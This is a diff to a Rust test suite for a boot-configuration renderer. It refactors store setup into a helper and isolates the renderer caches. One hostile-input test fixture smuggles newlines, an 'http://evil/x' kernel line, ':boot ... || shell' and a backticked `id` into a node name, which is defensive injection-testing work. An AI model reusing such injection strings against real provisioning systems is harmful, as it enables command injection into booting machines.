@@ -45,6 +45,17 @@ fn parked_store() -> Store {
     store
 }
 
+/// A store holding one state file (a node with its ports).
+fn one_node_store(json: impl AsRef<[u8]>) -> Store {
+    let store = Store::new(IndexConfig::default());
+    let doc = StateDoc::from_slice(json.as_ref()).expect("state parses");
+    store.apply(vec![(
+        SourceId::File("a.json".into()),
+        Update::Replace(doc),
+    )]);
+    store
+}
+
 fn renderer() -> Renderer {
     Renderer::new(TEMPLATES, boot_cfg()).expect("shipped templates load")
 }
@@ -227,36 +238,36 @@ fn hostile_node_fields_cannot_add_lines_or_commands() {
             r#""n1\nkernel http://evil/x\r\n:boot ${x} || shell; `id` \"q\" #c""#,
         )
         .replace("\"r1\"", r#""r1\nshell\u2028x""#);
-    let r = renderer();
+    // Both stores number the node's revision alike, so each render gets a renderer (and
+    // cache) of its own: the hostile render must not be answered from the benign one's cache.
+    let benign_store = one_node_store(benign);
+    let bs = benign_store.current();
+    let bm = bs
+        .by_addr(&AnyAddr::parse("52:54:00:00:00:01").expect("mac"))
+        .expect("node");
     for (json, label) in [(benign, "benign"), (hostile.as_str(), "hostile")] {
-        let store = Store::new(IndexConfig::default());
-        let doc = StateDoc::from_slice(json.as_bytes()).expect(label);
-        store.apply(vec![(
-            SourceId::File("a.json".into()),
-            Update::Replace(doc),
-        )]);
+        let store = one_node_store(json);
         let s = store.current();
         let m = s
             .by_addr(&AnyAddr::parse("52:54:00:00:00:01").expect("mac"))
             .expect("node");
         for f in Format::ALL {
-            let out = r.render(Some(&m), f, None, &server()).expect("renders");
-            let benign_lines = {
-                let b = Store::new(IndexConfig::default());
-                b.apply(vec![(
-                    SourceId::File("a.json".into()),
-                    Update::Replace(StateDoc::from_slice(benign.as_bytes()).expect("benign")),
-                )]);
-                let bs = b.current();
-                let bm = bs
-                    .by_addr(&AnyAddr::parse("52:54:00:00:00:01").expect("mac"))
-                    .expect("node");
-                r.render(Some(&bm), f, None, &server())
-                    .expect("renders")
-                    .body
-                    .lines()
-                    .count()
-            };
+            let out = renderer()
+                .render(Some(&m), f, None, &server())
+                .expect("renders");
+            let benign_lines = renderer()
+                .render(Some(&bm), f, None, &server())
+                .expect("renders")
+                .body
+                .lines()
+                .count();
+            if label == "hostile" && f != Format::IpxeEntry {
+                assert!(
+                    out.body.contains("n1_kernel http://evil/x__:boot"),
+                    "the hostile name is shown:\n{}",
+                    out.body
+                );
+            }
             assert_eq!(
                 out.body.lines().count(),
                 benign_lines,
@@ -286,12 +297,7 @@ fn unsafe_parameters_and_urls_are_refused_with_the_field_named() {
                                  "kernel_append_params": {params:?}}},
                 "ports": [{{"address": "52:54:00:00:00:01"}}]}}"#
         );
-        let store = Store::new(IndexConfig::default());
-        let doc = StateDoc::from_slice(json.as_bytes()).expect("parses");
-        store.apply(vec![(
-            SourceId::File("a.json".into()),
-            Update::Replace(doc),
-        )]);
+        let store = one_node_store(&json);
         let s = store.current();
         let m = s
             .by_addr(&AnyAddr::parse("52:54:00:00:00:01").expect("mac"))
@@ -498,12 +504,7 @@ fn node_secrets_never_reach_a_rendered_config() {
                         "ipmi_password": "hunter2-bmc", "redfish_password": "hunter2-redfish"},
         "instance_info": {"configdrive": "hunter2-configdrive", "rescue_password": "hunter2-rescue"},
         "ports": [{"address": "52:54:00:00:00:01"}]}"#;
-    let store = Store::new(IndexConfig::default());
-    let doc = StateDoc::from_slice(json.as_bytes()).expect("parses");
-    store.apply(vec![(
-        SourceId::File("a.json".into()),
-        Update::Replace(doc),
-    )]);
+    let store = one_node_store(json);
     let s = store.current();
     let m = s
         .by_addr(&AnyAddr::parse("52:54:00:00:00:01").expect("mac"))
@@ -544,11 +545,7 @@ fn a_word_starting_with_hash_in_kernel_parameters_is_refused_where_it_is_a_comme
         "driver_info": {"deploy_kernel": "http://img/k", "deploy_ramdisk": "http://img/r",
                         "kernel_append_params": "text console=ttyS0 # x"},
         "ports": [{"address": "52:54:00:00:00:01"}]}"#;
-    let store = Store::new(IndexConfig::default());
-    store.apply(vec![(
-        SourceId::File("a.json".into()),
-        Update::Replace(StateDoc::from_slice(json.as_bytes()).expect("parses")),
-    )]);
+    let store = one_node_store(json);
     let s = store.current();
     let m = s
         .by_addr(&AnyAddr::parse("52:54:00:00:00:01").expect("mac"))
@@ -587,11 +584,7 @@ fn kernel_parameters_too_long_together_are_refused_in_every_format() {
         "ports": [{"address": "52:54:00:00:00:01"}]
     })
     .to_string();
-    let store = Store::new(IndexConfig::default());
-    store.apply(vec![(
-        SourceId::File("a.json".into()),
-        Update::Replace(StateDoc::from_slice(json.as_bytes()).expect("parses")),
-    )]);
+    let store = one_node_store(&json);
     let s = store.current();
     let m = s
         .by_addr(&AnyAddr::parse("52:54:00:00:00:01").expect("mac"))
